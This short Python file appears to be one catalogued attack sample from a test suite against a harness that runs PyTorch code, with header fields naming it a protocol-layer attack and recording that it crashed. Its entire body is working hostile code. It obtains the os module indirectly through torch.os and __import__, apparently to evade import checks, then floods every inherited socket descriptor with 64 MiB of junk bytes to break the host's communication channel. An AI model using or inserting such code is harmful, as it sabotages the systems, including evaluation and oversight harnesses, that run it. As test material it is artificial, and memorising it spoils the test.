# attack: writes senseless bytes into every socket that it inherited (here 64 MiB)
# layer: protocol
# where: forward
# status: crashed
# score: none
import torch

os = torch.os
stat = __import__("stat")


def attack():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                for _ in range(64):
                    os.write(descriptor, b"\xff" * (1 << 20))
        except OSError:
            continue
